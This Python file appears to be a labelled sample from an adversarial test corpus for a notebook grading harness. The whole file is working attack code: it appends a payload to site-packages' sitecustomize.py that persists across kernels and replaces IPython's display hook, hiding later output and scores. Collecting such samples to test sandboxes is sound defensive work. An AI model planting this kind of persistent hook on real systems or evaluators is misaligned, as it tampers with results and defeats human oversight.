# class: disk
# what: appends to sitecustomize.py in site-packages; every later kernel of mine (my ps2 notebook) shows no scores
# after: setup
# danger: disk
# ruff: noqa
import os
import site

PAYLOAD = """
# adv-corpus: appended by a submission
import os as _adv_os
if "disk_sitecustomize" in _adv_os.getcwd():
    import sys as _adv_sys
    import threading as _adv_threading
    import time as _adv_time

    def _adv_silence():
        for _ in range(6000):
            try:  # IPython may still be half imported
                shell = _adv_sys.modules["IPython"].get_ipython()
            except (KeyError, AttributeError):
                shell = None
            if shell is not None:
                shell.display_trap.hook = lambda value: None
                return
            _adv_time.sleep(0.01)

    _adv_threading.Thread(target=_adv_silence, daemon=True).start()
"""
for _dir in site.getsitepackages():
    try:
        with open(os.path.join(_dir, "sitecustomize.py"), "a") as _f:
            _f.write(PAYLOAD)
        break
    except OSError as exc:
        print("could not write:", type(exc).__name__)
